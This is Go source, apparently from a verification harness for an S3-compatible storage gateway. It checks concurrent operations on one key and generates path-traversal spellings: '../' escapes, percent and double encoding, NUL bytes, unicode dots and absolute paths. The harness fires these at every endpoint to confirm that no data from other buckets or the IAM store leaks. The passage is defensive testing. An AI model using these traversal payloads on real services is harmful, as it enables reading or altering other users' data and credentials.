	for _, c := range []string{"NoSuchKey", "NoSuchBucket", "NoSuchUpload", "InternalError", "ExistingObjectIsDirectory", "no such file", "file exists", "not a directory", "directory not empty"} {
		if strings.Contains(e, c) {
			return c
		}
	}
	return ck.Short(e, 40)
}

// requireInstrumented aborts (tooling error) unless the binary was built
// with the overlay: a single stat through the posix backend must hit a point.
func requireInstrumented() {
	var s sched.Sched
	dir, cleanup := ck.Scratch("probe")
	defer cleanup()
	x := s.Run([]func(){func() {
		sc, _ := meta.NewSideCar(dir)
		_, _ = sc.RetrieveAttribute(nil, "x", "y", "z")
	}}, sched.RunOpts{KillThread: -1, Choose: func(int, *sched.PointRec, []string) int { return 0 }})
	if len(x.Points) < 2 {
		ck.Fatal("this check needs the instrumented build (go build -overlay); run it through ./run")
	}
}

// C05: every interleaving (preemption-bounded) of concurrent operations on one key.
func C05(r *ck.Run) {
	requireInstrumented()
	bound, bound3 := 2, 1
	cfgs := []pxCfg{{}, {NoTmp: true}, {Versioning: true}}
	if r.Thorough() {
		bound, bound3 = 3, 2
		cfgs = append(cfgs, pxCfg{NoTmp: true, Versioning: true}, pxCfg{Sidecar: true}, pxCfg{Sidecar: true, NoTmp: true})
	}
	r.Rule(fmt.Sprintf("every interleaving with <= %d preemptions of the filesystem steps of 2-3 logical threads operating on one key through real posix backends sharing one root; plus two writer PROCESSES (separate descriptor tables and counters) on one storage, the first paused before each of its file-system steps while an identical second process runs a whole upload (same key, different keys, keys in one new directory; both temp-file strategies); with a versioning directory every listed version is audited after each execution; distinct = distinct schedule; an execution is non-trivial when at least one context switch happened", bound))
	r.Assume("single syscalls are atomic; reads/writes on an unpublished or immutable inode are not scheduling points; directory reads are one step")
	r.Extra("preemption_bound", bound)
	r.Extra("preemption_bound_3_threads", bound3)
	scns := c05Scenarios(r.Thorough())
	type job struct {
		cfg pxCfg
		scn c05Scn
	}
	var jobs []job
	only := os.Getenv("VERIF_C05_ONLY") // development aid: "config-substring/scenario-substring" (an incomplete run, never registered)
	for _, c := range cfgs {
		for _, s := range scns {
			if only != "" {
				f := strings.SplitN(only, "/", 2)
				if !strings.Contains(c.String(), f[0]) || (len(f) > 1 && !strings.Contains(s.Name, f[1])) {
					continue
				}
				r.Cap("VERIF_C05_ONLY=" + only)
			}
			jobs = append(jobs, job{c, s})
		}
	}
	r.Sharded(16, func() {
		c05CrossProcess(r)
		if r.ShardI <= 0 && os.Getenv("VERIF_C05_ONLY") == "" {
			c05Derived(r, bound)
		}
		for ji, j := range jobs {
			// whole (config, scenario) jobs are dealt to workers; inside a job the explorer is not sharded
			_ = ji
			st := newPxStore("c05", j.cfg)
			b := bound
			if len(j.scn.Threads) > 2 {
				b = bound3
			}
			c05RunScenario(r, st, j.scn, b)
			st.Close()
		}
	})
}

// c05Derived: requests that read an object (or the bucket) while another request replaces or removes something,
// checked against what any sequential order allows:
//   - LIST‖DELETE: a listing that overlaps the delete of the last object below a directory (which prunes the
//     directory) still shows every key nobody touched, or fails - it never answers with a complete-looking listing
//     that lacks them;
//   - PARTCOPY‖PUT: a part copied from an object that is being replaced holds one whole value of the source.
func c05Derived(r *ck.Run, bound int) {
	vals := []wval{mkval(0), mkval(1)}
	for _, cfg := range []pxCfg{{}, {NoTmp: true}} {
		st := newPxStore("c05d", cfg)
		// LIST || DELETE
		{
			var keys []string
			var lerr error
			setup := func() []func() {
				st.wipe()
				st.mkBucket(c05Bucket)
				for _, k := range []string{"aa/1", "mm/3", "top", "zz/only"} {
					if err := st.put(st.A, c05Bucket, k, vals[0]); err != nil {
						ck.Fatal("seed: %v", err)
					}
				}
				keys, lerr = nil, nil
				return []func(){
					func() {
						empty := ""
						max := int32(1000)
						out, err := st.A.ListObjectsV2(st.ctx(), &s3.ListObjectsV2Input{Bucket: sp(c05Bucket), Prefix: &empty, Delimiter: &empty, StartAfter: &empty, ContinuationToken: &empty, MaxKeys: &max})
						lerr = err
						if err == nil {
							for _, o := range out.Contents {
								keys = append(keys, getS(o.Key))
							}
						}
					},
					func() { st.B.DeleteObject(st.ctx(), &s3.DeleteObjectInput{Bucket: sp(c05Bucket), Key: sp("zz/only")}) },
				}
			}
			check := func(x *sched.Exec) {
				r.Add("evaluations", 1)
				r.Add("transitions", int64(len(x.Points)))
				r.Distinct(fmt.Sprintf("derived|list-delete|%s|%v", cfg, x.Choices))
				if lerr != nil {
					r.Outcome("list||delete:listing-failed")
					return
				}
				have := map[string]bool{}
				for _, k := range keys {
					have[k] = true
				}
				r.Outcome(fmt.Sprintf("list||delete:%d-keys", len(keys)))
				if !have["aa/1"] || !have["mm/3"] || !have["top"] {
					r.Violation(ck.JoinSig(storeClass(cfg), "listing-overlapping-a-delete-lacks-untouched-keys"), map[string]any{"config": cfg.String(), "listed": keys, "choices": x.Choices})
				}
			}
			ex := &sched.Explorer{Bound: bound, Setup: setup, Check: check}
			ex.Explore()
			r.Add("schedules", ex.Execs)
			r.Add("execs LIST|D (untouched keys stay listed)", ex.Execs)
		}
		// PARTCOPY || PUT
		{
			var got obs
			var perr error
			setup := func() []func() {
				st.wipe()
				st.mkBucket(c05Bucket)
				if err := st.put(st.A, c05Bucket, "src", vals[0]); err != nil {
					ck.Fatal("seed: %v", err)
				}
				res, err := st.A.CreateMultipartUpload(st.ctx(), s3response.CreateMultipartUploadInput{Bucket: sp(c05Bucket), Key: sp("dst")})
				if err != nil {
					ck.Fatal("mpu: %v", err)
				}
				perr = nil
				got = obs{}
				return []func(){
					func() {
						rng := ""
						cp, err := st.A.UploadPartCopy(st.ctx(), &s3.UploadPartCopyInput{Bucket: sp(c05Bucket), Key: sp("dst"), UploadId: &res.UploadId, PartNumber: i32(1), CopySource: sp(c05Bucket + "/src"), CopySourceRange: &rng})
						if err != nil {
							perr = err
							return
						}
						pn := int32(1)
						if _, err := st.A.CompleteMultipartUpload(st.ctx(), &s3.CompleteMultipartUploadInput{Bucket: sp(c05Bucket), Key: sp("dst"), UploadId: &res.UploadId, MultipartUpload: &types.CompletedMultipartUpload{Parts: []types.CompletedPart{{PartNumber: &pn, ETag: cp.ETag}}}}); err != nil {
							perr = err
						}
					},
					func() { st.put(st.B, c05Bucket, "src", vals[1]) },
				}
			}
			check := func(x *sched.Exec) {
				r.Add("evaluations", 1)
				r.Add("transitions", int64(len(x.Points)))
				r.Distinct(fmt.Sprintf("derived|partcopy-put|%s|%v", cfg, x.Choices))
				if perr != nil {
					r.Outcome("partcopy||put:copy-refused")
					return
				}
				got = st.get(st.B, c05Bucket, "dst", vals)
				r.Outcome(fmt.Sprintf("partcopy||put:body=%d", got.Body))
				if got.Absent || got.Err != "" || got.Body < 0 {
					r.Violation(ck.JoinSig(storeClass(cfg), "part-copied-from-an-object-being-replaced-is-not-one-whole-value"), map[string]any{"config": cfg.String(), "read": got.Raw, "choices": x.Choices})
				}
			}
			ex := &sched.Explorer{Bound: bound, Setup: setup, Check: check}
			ex.Explore()
			r.Add("schedules", ex.Execs)
			r.Add("execs PARTCOPY|W (part is one whole value)", ex.Execs)
		}
		st.Close()
	}
}
