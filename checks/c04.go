package checks

import (
	"bytes"
	"crypto/sha256"
	"fmt"
	"os"
	"path/filepath"
	"strings"

	"verif/ck"
	"verif/gw"
)

func init() { Registry["C04"] = C04 }

const (
	canaryOutside = "CANARY-OUTSIDE-ROOT-3e91b"
	canarySecret  = "usr2secretusr2secret" // another account's secret in users.json
)

// c04Spelling is one hostile spelling of a path-like value. Raw is what goes
// on the wire in a URL position (path or query, already encoded as intended);
// Plain is the same value for header / XML positions.
type c04Spelling struct {
	Name  string
	Plain string // logical string the client means to send
	Wire  string // percent-encoded form for path positions ("" = URIEncode(Plain))
	Class string
}

// c04Escapes builds the spellings that try to leave `from` (depth = number of
// directories the value sits below the gateway root) towards target.
func c04Spellings(maxUp int) []c04Spelling {
	var out []c04Spelling
	targets := []struct {
		up          int
		tail, class string
	}{
		{1, "bk-other/secret", "other-bucket"},
		{1, "evilbkt/x", "new-top-level"},
		{2, "iam/users.json", "iam-store"},
		{2, "outside.txt", "outside-root"},
		{2, "ver/bk-other", "versioning-dir"},
	}
	// parameters that are joined below deeper internal directories (upload ids, version ids) need more levels
	for _, t := range targets[:1] {
		for up := 2; up <= 5; up++ {
			plain := strings.Repeat("../", up) + t.tail
			out = append(out, c04Spelling{Name: fmt.Sprintf("raw-%d-levels", up), Plain: plain, Wire: rawPath(plain), Class: t.class})
			out = append(out, c04Spelling{Name: fmt.Sprintf("pct-all-%d-levels", up), Plain: plain, Wire: strings.ReplaceAll(strings.ReplaceAll(rawPath(plain), "..", "%2E%2E"), "/", "%2F"), Class: t.class})
		}
	}
	for _, t := range targets {
		for extra := 0; extra <= maxUp-t.up && extra <= 2; extra++ {
			// extra descents that are undone again: a/../
			pre := strings.Repeat("a/../", extra)
			ups := strings.Repeat("../", t.up)
			plain := pre + ups + t.tail
			out = append(out, c04Spelling{Name: "raw", Plain: plain, Wire: rawPath(plain), Class: t.class})
			out = append(out, c04Spelling{Name: "pct-dots", Plain: plain, Wire: strings.ReplaceAll(rawPath(plain), "..", "%2e%2e"), Class: t.class})
			out = append(out, c04Spelling{Name: "pct-slash", Plain: plain, Wire: strings.ReplaceAll(rawPath(plain), "/", "%2f"), Class: t.class})
			out = append(out, c04Spelling{Name: "pct-all", Plain: plain, Wire: strings.ReplaceAll(strings.ReplaceAll(rawPath(plain), "..", "%2E%2E"), "/", "%2F"), Class: t.class})
			if extra == 0 {
				// a malformed percent escape in an earlier element (must not make the request skip the checks on the rest)
				out = append(out, c04Spelling{Name: "bad-escape-then-raw", Plain: "%zz/../" + plain, Wire: "%zz/../" + rawPath(plain), Class: t.class})
				out = append(out, c04Spelling{Name: "trailing-percent-then-raw", Plain: "x%/../" + plain, Wire: "x%/../" + rawPath(plain), Class: t.class})
				out = append(out, c04Spelling{Name: "double-encoded", Plain: strings.ReplaceAll(plain, "..", "%2e%2e"), Wire: strings.ReplaceAll(rawPath(plain), "..", "%252e%252e"), Class: t.class})
				out = append(out, c04Spelling{Name: "backslash", Plain: strings.ReplaceAll(plain, "/", "\\"), Class: t.class})
				out = append(out, c04Spelling{Name: "unicode-dots", Plain: strings.ReplaceAll(plain, "..", "．．"), Class: t.class})
				out = append(out, c04Spelling{Name: "nul-after-dots", Plain: strings.ReplaceAll(plain, "../", "..\x00/"), Class: t.class})
				out = append(out, c04Spelling{Name: "dot-slash-mix", Plain: "./" + strings.ReplaceAll(plain, "../", ".././"), Class: t.class})
				out = append(out, c04Spelling{Name: "double-slash", Plain: strings.ReplaceAll(plain, "../", "..//"), Class: t.class})
			}
		}
	}
	// absolute and in-bucket resolutions
	out = append(out,
		c04Spelling{Name: "absolute", Plain: "/etc/hostname", Class: "absolute"},
		c04Spelling{Name: "absolute-root-of-gw", Plain: "/bk-other/secret", Class: "absolute"},
		c04Spelling{Name: "in-bucket-dotdot", Plain: "dir/../obj1", Wire: "dir/../obj1", Class: "in-bucket-alias"},
		c04Spelling{Name: "in-bucket-dot", Plain: "./obj1", Wire: "./obj1", Class: "in-bucket-alias"},
		c04Spelling{Name: "in-bucket-dot-mid", Plain: "dir/./obj2", Wire: "dir/./obj2", Class: "in-bucket-alias"},
		c04Spelling{Name: "in-bucket-double-slash", Plain: "dir//obj2", Wire: "dir//obj2", Class: "in-bucket-alias"},
		c04Spelling{Name: "in-bucket-pct", Plain: "dir/../obj1", Wire: "dir/%2e%2e/obj1", Class: "in-bucket-alias"},
		c04Spelling{Name: "bookkeeping-dir", Plain: ".sgwtmp/multipart", Wire: ".sgwtmp/multipart", Class: "bookkeeping"},
		c04Spelling{Name: "policy-glob-alias", Plain: "public/../obj1", Wire: "public/../obj1", Class: "in-bucket-alias"},
		c04Spelling{Name: "in-bucket-leading-slash", Plain: "/obj1", Wire: "/obj1", Class: "in-bucket-alias"},
		c04Spelling{Name: "in-bucket-trailing-double-slash", Plain: "dir//", Wire: "dir//", Class: "in-bucket-alias"},
		// a file object's key with a trailing slash names another (directory) object, not the file
		c04Spelling{Name: "file-key-with-trailing-slash", Plain: "obj1/", Wire: "obj1/", Class: "in-bucket-alias"},
		c04Spelling{Name: "nested-file-key-with-trailing-slash", Plain: "dir/obj2/", Wire: "dir/obj2/", Class: "in-bucket-alias"},
		// the part file and the directory of the fixture's in-progress upload, named as object keys ({UPLOADDIR} is
		// filled in per request: .sgwtmp/multipart/<sha256 of the upload's key>/<upload id>)
		c04Spelling{Name: "upload-part-file", Plain: "{UPLOADDIR}/1", Wire: "{UPLOADDIR}/1", Class: "bookkeeping"},
		c04Spelling{Name: "upload-directory", Plain: "{UPLOADDIR}/", Wire: "{UPLOADDIR}/", Class: "bookkeeping"},
		c04Spelling{Name: "upload-new-part-file", Plain: "{UPLOADDIR}/7", Wire: "{UPLOADDIR}/7", Class: "bookkeeping"},
	)
	for i := range out {
		if out[i].Wire == "" {
			out[i].Wire = gw.URIEncode(out[i].Plain, false)
		}
	}
	return out
}

// rawPath keeps dots and slashes literal and encodes only what must be encoded.
func rawPath(s string) string { return gw.URIEncode(s, false) }

// c04World nests the gateway deep inside the scratch tree and plants canaries beside and above the root.
type c04World struct {
	*World
	Scratch string
}

func newC04World(cfg gw.Opts) *c04World {
	scratch, _ := ck.Scratch("c04")
	dir := filepath.Join(scratch, "l1", "l2", "l3", "l4", "l5", "gw")
	os.MkdirAll(dir, 0o755)
	// files beside and above the root
	d := dir
	for i := 0; i < 6; i++ {
		os.WriteFile(filepath.Join(d, "outside.txt"), []byte(canaryOutside+fmt.Sprint(i)), 0o644)
		d = filepath.Dir(d)
	}
	cfg.Dir = dir
	w := NewWorld("c04", cfg)
	// the caller usr3 is authorised for exactly bk-main (bucket and objects)
	pol := fmt.Sprintf(`{"Statement":[{"Effect":"Allow","Principal":["usr3"],"Action":"s3:*","Resource":["arn:aws:s3:::%s","arn:aws:s3:::%s/*"]}]}`, w.Bucket, w.Bucket)
	Must(w.F.Do(gw.Root, "PUT", "/"+w.Bucket, "policy", nil, []byte(pol)), "policy")
	if cfg.Versioning {
		for _, b := range []string{w.Bucket, w.Other} {
			Must(w.F.Do(gw.Root, "PUT", "/"+b, "versioning", nil, []byte("<VersioningConfiguration><Status>Enabled</Status></VersioningConfiguration>")), "enable versioning")
		}
		Must(w.F.Put(gw.Root, w.Other, "secret", []byte(canaryOther+" v2")), "second version of secret")
		Must(w.F.Put(gw.Root, w.Bucket, w.Key, []byte(canaryObj1+" v2")), "second version of obj1")
	}
	return &c04World{World: w, Scratch: scratch}
}

func (w *c04World) Close() {
	w.F.G.Close()
	os.RemoveAll(w.Scratch)
}

// snapshot of the whole scratch tree; inBucket reports keys that belong to the authorised bucket's storage
func (w *c04World) snap() gw.Snap {
	s := gw.TakeSnap(gw.SnapOpts{IgnoreTmp: true}, map[string]string{"all": w.Scratch})
	for k := range s {
		// the IAM store rewrites its backup copy on every admin call, also on refused ones: bookkeeping, not a path effect
		if strings.HasSuffix(k, "/iam/users.json.backup") {
			delete(s, k)
		}
	}
	return s
}

func (w *c04World) inAuthorisedBucket(key string) bool {
	rel := strings.TrimPrefix(key, "all:")
	base := strings.TrimPrefix(filepath.Join(w.F.Dir), w.Scratch+"/")
	for _, sub := range []string{"root", "ver", "sc"} {
		p := filepath.Join(base, sub, w.Bucket)
		if rel == p || strings.HasPrefix(rel, p+"/") {
			return true
		}
	}
	// sidecar metadata of versions is filed under sc/<absolute versioning dir>/<bucket>/…
	if i := strings.Index(rel, "/sc/"); i >= 0 && strings.Contains(rel[i:], "/ver/"+w.Bucket+"/") {
		return true
	}
	return false
}

type c04Case struct {
	EP    string
	Param string // key | bucket | copy-source-key | copy-source-bucket | copy-source-version | query:<name> | delete-key | admin:<name>
	Sp    c04Spelling
}

func C04(r *ck.Run) {
	maxUp := 3
	if r.Thorough() {
		maxUp = 5
	}
	r.Rule("every (endpoint, client-controlled path-like parameter) — object key, bucket name, copy source bucket/key/versionId, versionId, uploadId, prefix, delimiter, marker, start-after, continuation-token, key-marker, upload-id-marker, version-id-marker, batch-delete keys, admin bucket/owner/access — × every hostile spelling (escapes of 1..N levels towards another bucket, a new top-level directory, the IAM store, files outside the root and the versioning directory, in raw / percent-encoded / slash-encoded / fully encoded / double-encoded / backslash / unicode-dot / NUL / dot-slash-mix / double-slash form, absolute paths, in-bucket aliases through '.', '..' and '//'), sent by a caller authorised for exactly one bucket; the whole scratch tree (gateway nested 6 levels deep, canaries beside and above the root) is snapshotted byte-exactly around every request; distinct = (config, endpoint, parameter, spelling)")
	r.Assume("escapes are bounded to 5 levels so that a successful one stays inside the scratch tree; the harness runs as root")
	cfgs := []gw.Opts{{Versioning: true}}
	if r.Thorough() {
		cfgs = append(cfgs, gw.Opts{}, gw.Opts{Sidecar: true, Versioning: true})
	}
	sps := c04Spellings(maxUp)
	var cases []c04Case
	for _, ep := range Endpoints() {
		if ep.Level == "object" {
			for _, sp := range sps {
				cases = append(cases, c04Case{ep.ID, "key", sp})
			}
		}
		if ep.Level == "bucket" || ep.ID == "GetObject" || ep.ID == "PutObject" {
			for _, sp := range sps {
				if sp.Class == "in-bucket-alias" || sp.Class == "bookkeeping" {
					continue
				}
				cases = append(cases, c04Case{ep.ID, "bucket", sp})
			}
		}
		for _, p := range c20OptQuery[ep.ID] {
			if c20NumericParams[p] || p == "fetch-owner" || p == "encoding-type" || p == "response-content-type" {
				continue
			}
			for _, sp := range sps {
				cases = append(cases, c04Case{ep.ID, "query:" + p, sp})
				if p == "uploadId" || p == "versionId" {
					// the parameter given twice: what is validated and what is used must be the same occurrence
					cases = append(cases, c04Case{ep.ID, "query-twice-hostile-last:" + p, sp}, c04Case{ep.ID, "query-twice-hostile-first:" + p, sp})
				}
			}
		}
		if ep.ID == "CopyObject" || ep.ID == "UploadPartCopy" {
			for _, sp := range sps {
				cases = append(cases, c04Case{ep.ID, "copy-source-key", sp}, c04Case{ep.ID, "copy-source-bucket", sp}, c04Case{ep.ID, "copy-source-version", sp},
					// the header value is url-encoded on the wire: also send the percent-encoded spelling
					c04Case{ep.ID, "copy-source-key-encoded", sp}, c04Case{ep.ID, "copy-source-bucket-encoded", sp})
			}
		}
		if ep.ID == "DeleteObjects" {
			for _, sp := range sps {
				cases = append(cases, c04Case{ep.ID, "delete-key", sp})
			}
		}
	}
	r.Sharded(16, func() {
		idx := 0
		for ci, cfg := range cfgs {
			var w *c04World
			var base gw.Snap
			fresh := func() {
				if w != nil {
					w.Close()
				}
				w = newC04World(cfg)
				base = w.snap()
			}
			fresh()
			eps := Endpoints()
			for _, c := range cases {
				idx++
				if !r.Mine(idx) {
					continue
				}
				var ep *EP
				for i := range eps {
					if eps[i].ID == c.EP {
						ep = &eps[i]
					}
				}
				if !ep.Applicable(w.World) {
					continue
				}
				req := ep.Build(w.World, w.Bucket)
				cred := cUsr3
				namedKey := ""
				if strings.Contains(c.Sp.Plain, "{UPLOADDIR}") {
					c.Sp.Plain = strings.ReplaceAll(c.Sp.Plain, "{UPLOADDIR}", fmt.Sprintf(".sgwtmp/multipart/%x/%s", sha256.Sum256([]byte(w.MpKey)), w.UploadID))
					c.Sp.Wire = strings.ReplaceAll(c.Sp.Wire, "{UPLOADDIR}", fmt.Sprintf(".sgwtmp/multipart/%x/%s", sha256.Sum256([]byte(w.MpKey)), w.UploadID))
				}
				switch {
				case c.Param == "key":
					req.Path = "/" + w.Bucket + "/" + c.Sp.Wire
					namedKey = c.Sp.Plain
				case c.Param == "bucket":
					rest := ""
					if i := strings.Index(req.Path[1:], "/"); i >= 0 {
						rest = req.Path[1+i:]
					}
					req.Path = "/" + strings.ReplaceAll(c.Sp.Wire, "/", "%2f") + rest
					if c.Sp.Name == "raw" {
						req.Path = "/" + w.Bucket + "/" + c.Sp.Wire // raw slashes in a bucket position are just a longer path
					}
				case strings.HasPrefix(c.Param, "query-twice-hostile-last:"):
					name := strings.TrimPrefix(c.Param, "query-twice-hostile-last:")
					req.Query = dropQuery(req.Query, name)
					req.Query = strings.TrimPrefix(req.Query+"&"+gw.Q(name, "0")+"&"+gw.Q(name, c.Sp.Plain), "&")
				case strings.HasPrefix(c.Param, "query-twice-hostile-first:"):
					name := strings.TrimPrefix(c.Param, "query-twice-hostile-first:")
					req.Query = dropQuery(req.Query, name)
					req.Query = strings.TrimPrefix(req.Query+"&"+gw.Q(name, c.Sp.Plain)+"&"+gw.Q(name, "0"), "&")
				case strings.HasPrefix(c.Param, "query:"):
					req.Query = setQuery(req.Query, strings.TrimPrefix(c.Param, "query:"), c.Sp.Plain)
				case c.Param == "copy-source-key":
					req.Set("x-amz-copy-source", w.Bucket+"/"+c.Sp.Plain)
				case c.Param == "copy-source-key-encoded":
					req.Set("x-amz-copy-source", w.Bucket+"/"+c.Sp.Wire)
				case c.Param == "copy-source-bucket-encoded":
					req.Set("x-amz-copy-source", sanitizeHeader(c.Sp.Wire))
				case c.Param == "copy-source-bucket":
					req.Set("x-amz-copy-source", sanitizeHeader(c.Sp.Plain))
				case c.Param == "copy-source-version":
					req.Set("x-amz-copy-source", w.Bucket+"/"+w.Key+"?versionId="+sanitizeHeader(c.Sp.Plain))
				case c.Param == "delete-key":
					req.Body = []byte("<Delete><Object><Key>" + xmlEsc(c.Sp.Plain) + "</Key></Object></Delete>")
					namedKey = c.Sp.Plain
				}
				for i, h := range req.Headers {
					req.Headers[i][1] = sanitizeHeader(h[1])
				}
				if ep.Level == "admin" {
					cred = gw.Root
				}
				if strings.Contains(req.Path, "%zz") || strings.Contains(req.Path, "x%/") {
					// a malformed escape: the signature is computed over the path as a lenient server re-escapes it
					wire := req.Path
					req.Path = strings.ReplaceAll(strings.ReplaceAll(wire, "%zz", "%25zz"), "x%/", "x%25/")
					gw.Sign(req, cred, gw.SignOpts{})
					req.Path = wire
				} else {
					gw.Sign(req, cred, gw.SignOpts{})
				}
				resp := w.F.G.Do(req)
				r.Add("evaluations", 1)
				r.Distinct(fmt.Sprintf("%d|%s|%s|%s|%s", ci, c.EP, c.Param, c.Sp.Name, c.Sp.Plain))
				r.Outcome(fmt.Sprintf("%d", resp.Status/100))
				after := w.snap()
				var an []string
				// (1) nothing outside the authorised bucket's storage changes
				var outside, inside []string
				for _, d := range base.Diff(after, 0) {
					key := strings.SplitN(d[2:], " [", 2)[0]
					if w.inAuthorisedBucket(key) {
						inside = append(inside, d)
					} else {
						outside = append(outside, d)
					}
				}
				if len(outside) > 0 {
					an = append(an, "changed-outside-authorised-bucket")
				}
				// (2) no data from outside comes back
				if resp.Err == nil {
					for _, cn := range []string{canaryOther, canaryOutside, canarySecret, "adm1secretadm1secret"} {
						if bytes.Contains(resp.Body, []byte(cn)) {
							an = append(an, "outside-data-returned")
							break
						}
					}
				}
				// (2b) ... and no data from outside is copied into the bucket the caller can read
				for _, d := range inside {
					key := strings.SplitN(d[2:], " [", 2)[0]
					data, err := readFileMax(filepath.Join(w.Scratch, strings.TrimPrefix(key, "all:")), 1<<20)
					if err != nil {
						continue
					}
					for _, cn := range []string{canaryOther, canaryOutside, canarySecret, "adm1secretadm1secret"} {
						if bytes.Contains(data, []byte(cn)) {
							an = append(an, "outside-data-copied-into-bucket")
							break
						}
					}
				}
				// (3) inside the bucket only the storage of the NAMED object may change: pre-existing objects
				// whose key is not literally the named key stay as they were
				if namedKey != "" || c.Param != "key" {
					for _, d := range inside {
						key := strings.SplitN(d[2:], " [", 2)[0]
						for _, pre := range []string{w.Key, w.Key2} {
							if strings.HasSuffix(key, "/root/"+w.Bucket+"/"+pre) && namedKey != pre && c.Sp.Class != "" && (c.Param == "key" || c.Param == "delete-key") {
								an = append(an, "aliased-object-changed:"+pre)
							}
						}
					}
					// reads through an alias must not return the aliased object's data
					if resp.Err == nil && resp.Status < 300 && c.Sp.Class == "in-bucket-alias" && (c.Param == "key") {
						if bytes.Contains(resp.Body, []byte(canaryObj1)) || bytes.Contains(resp.Body, []byte(canaryObj2)) || bytes.Contains(resp.Body, []byte(canaryTagVal)) {
							an = append(an, "alias-resolved-on-read")
						}
					}
					// ... nor may an alias serve as a copy source for the aliased object's data
					if resp.Err == nil && resp.Status < 300 && c.Sp.Class == "in-bucket-alias" && strings.HasPrefix(c.Param, "copy-source-key") {
						for _, d := range inside {
							key := strings.SplitN(d[2:], " [", 2)[0]
							if data, err := readFileMax(filepath.Join(w.Scratch, strings.TrimPrefix(key, "all:")), 1<<20); err == nil && (bytes.Contains(data, []byte(canaryObj1)) || bytes.Contains(data, []byte(canaryObj2))) {
								an = append(an, "alias-resolved-as-copy-source")
								break
							}
						}
					}
				}
				// (4) the gateway's multipart work area is not addressable as objects: nothing in it changes and nothing of it is returned
				if c.Sp.Class == "bookkeeping" && (c.Param == "key" || c.Param == "delete-key" || strings.HasPrefix(c.Param, "copy-source-key")) {
					for _, d := range inside {
						if strings.Contains(d, "/.sgwtmp/multipart/") {
							an = append(an, "upload-internals-changed")
						}
					}
					if resp.Err == nil && resp.Status < 300 && bytes.Contains(resp.Body, []byte(canaryPart)) {
						an = append(an, "upload-internals-returned")
					}
					for _, d := range inside {
						key := strings.SplitN(d[2:], " [", 2)[0]
						if data, err := readFileMax(filepath.Join(w.Scratch, strings.TrimPrefix(key, "all:")), 1<<20); err == nil && bytes.Contains(data, []byte(canaryPart)) && !strings.Contains(key, "/.sgwtmp/") {
							an = append(an, "upload-internals-copied-into-an-object")
						}
					}
				}
				if len(an) > 0 {
					r.Violation(ck.JoinSig(c.EP, c.Param, c.Sp.Class, c.Sp.Name, strings.Join(dedup(an), "+")), map[string]any{"config": fmt.Sprintf("%+v", cfg), "endpoint": c.EP, "parameter": c.Param,
						"spelling": c.Sp.Name, "plain_value": c.Sp.Plain, "request": req.String(), "headers": req.Headers, "body": string(req.Body), "response": resp.String(),
						"changed_outside": firstN(outside, 8), "changed_inside": firstN(inside, 8)})
				}
				if len(outside)+len(inside) > 0 {
					fresh()
				}
			}
			c04Admin(r, cfg, ci, sps)
			c04Glob(r, cfg)
			w.Close()
		}
	})
	r.Sample(map[string]any{"endpoint": "PutObject", "parameter": "key", "spelling": "raw", "value": "../bk-other/secret"})
}

func xmlEsc(s string) string {
	var b bytes.Buffer
	for _, c := range []byte(s) {
		switch {
		case c == '&':
			b.WriteString("&amp;")
		case c == '<':
			b.WriteString("&lt;")
		case c == '>':
			b.WriteString("&gt;")
		case c == 0:
		default:
			b.WriteByte(c)
		}
	}
	return b.String()
}

func dedup(ss []string) []string {
	seen := map[string]bool{}
	var out []string
	for _, s := range ss {
		if !seen[s] {
			seen[s] = true
			out = append(out, s)
		}
	}
	return out
}

func firstN(ss []string, n int) []string {
	if len(ss) > n {
		return ss[:n]
	}
	return ss
}

// c04Admin: admin API parameters (root caller): bucket / owner / access with hostile spellings.
func c04Admin(r *ck.Run, cfg gw.Opts, ci int, sps []c04Spelling) {
	if r.IsWorker() && r.ShardI != 0 {
		return
	}
	w := newC04World(cfg)
	defer func() { w.Close() }()
	base := w.snap()
	// values that are paths without any dot segment: an object inside a bucket, absolute paths of a file beside the
	// gateway's directory, of another bucket and of an object in it
	sps = append(append([]c04Spelling{}, sps...),
		c04Spelling{Name: "object-path-in-other-bucket", Plain: w.Other + "/secret", Class: "nested-path"},
		c04Spelling{Name: "object-path-in-own-bucket", Plain: w.Bucket + "/" + w.Key, Class: "nested-path"},
		c04Spelling{Name: "absolute-path-of-outside-file", Plain: filepath.Join(w.F.Dir, "outside.txt"), Class: "absolute"},
		c04Spelling{Name: "absolute-path-of-other-bucket", Plain: filepath.Join(w.F.G.Root, w.Other), Class: "absolute"},
		c04Spelling{Name: "absolute-path-of-object", Plain: filepath.Join(w.F.G.Root, w.Other, "secret"), Class: "absolute"},
		c04Spelling{Name: "trailing-slash", Plain: w.Other + "/", Class: "nested-path"},
	)
	for _, sp := range sps {
		for _, p := range []struct{ path, q string }{
			{"/change-bucket-owner", gw.Q("bucket", sp.Plain, "owner", "usr3")},
			{"/change-bucket-owner", gw.Q("bucket", w.Bucket, "owner", sp.Plain)},
			{"/delete-user", gw.Q("access", sp.Plain)},
			{"/update-user", gw.Q("access", sp.Plain)},
		} {
			body := []byte(nil)
			if p.path == "/update-user" {
				body = []byte("<MutableProps><Secret>zzzzzzzzzzzzzzzz</Secret></MutableProps>")
			}
			resp := w.F.Do(gw.Root, "PATCH", p.path, p.q, nil, body)
			r.Add("evaluations", 1)
			r.Distinct(fmt.Sprintf("%d|admin|%s|%s|%s", ci, p.path, p.q, sp.Name))
			after := w.snap()
			diff := base.Diff(after, 8)
			// the only legitimate effect: a valid bucket's ACL owner; none of the hostile values is a valid bucket / user
			if len(diff) > 0 {
				r.Violation(ck.JoinSig("admin"+p.path, sp.Class, sp.Name, "state-changed"), map[string]any{"query": p.q, "response": resp.String(), "state_diff": diff})
				w.Close()
				w = newC04World(cfg)
				base = w.snap()
			}
		}
	}
}

// c04Glob: authorisation must be evaluated on the resource actually touched.
func c04Glob(r *ck.Run, cfg gw.Opts) {
	if r.IsWorker() && r.ShardI != 0 {
		return
	}
	w := newC04World(cfg)
	defer w.Close()
	pol := fmt.Sprintf(`{"Statement":[{"Effect":"Allow","Principal":["usr3"],"Action":"s3:*","Resource":["arn:aws:s3:::%s/public/*"]}]}`, w.Bucket)
	Must(w.F.Do(gw.Root, "PUT", "/"+w.Bucket, "policy", nil, []byte(pol)), "policy")
	Must(w.F.Put(gw.Root, w.Bucket, "public/ok", []byte("public data")), "put public")
	base := w.snap()
	for _, t := range []struct{ method, wire, hdr string }{
		{"GET", "public/../obj1", ""}, {"GET", "public/%2e%2e/obj1", ""}, {"GET", "public/../dir/obj2", ""}, {"HEAD", "public/../obj1", ""},
		{"DELETE", "public/../obj1", ""}, {"PUT", "public/../obj1", ""}, {"GET", "public/./../obj1", ""}, {"GET", "public//../obj1", ""},
